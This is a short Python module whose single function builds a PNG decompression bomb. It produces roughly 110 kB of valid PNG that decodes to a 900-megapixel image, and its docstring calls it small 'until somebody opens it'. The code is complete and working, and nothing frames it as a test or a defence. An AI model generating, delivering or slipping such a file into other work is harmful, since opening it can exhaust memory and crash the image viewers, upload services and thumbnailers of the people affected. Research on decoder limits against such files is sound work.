"""A picture that is small until somebody opens it."""

import struct
import zlib
from typing import Final

SIDE: Final = 30_000  # pixels, of one bit each


def bomb() -> bytes:
    """Return 110 kB of PNG that unfold to 900 megapixels, made row by row: they fill no memory."""
    squeezed, row = zlib.compressobj(), bytes(1 + SIDE // 8)
    rows = b"".join([*(squeezed.compress(row) for _ in range(SIDE)), squeezed.flush()])
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
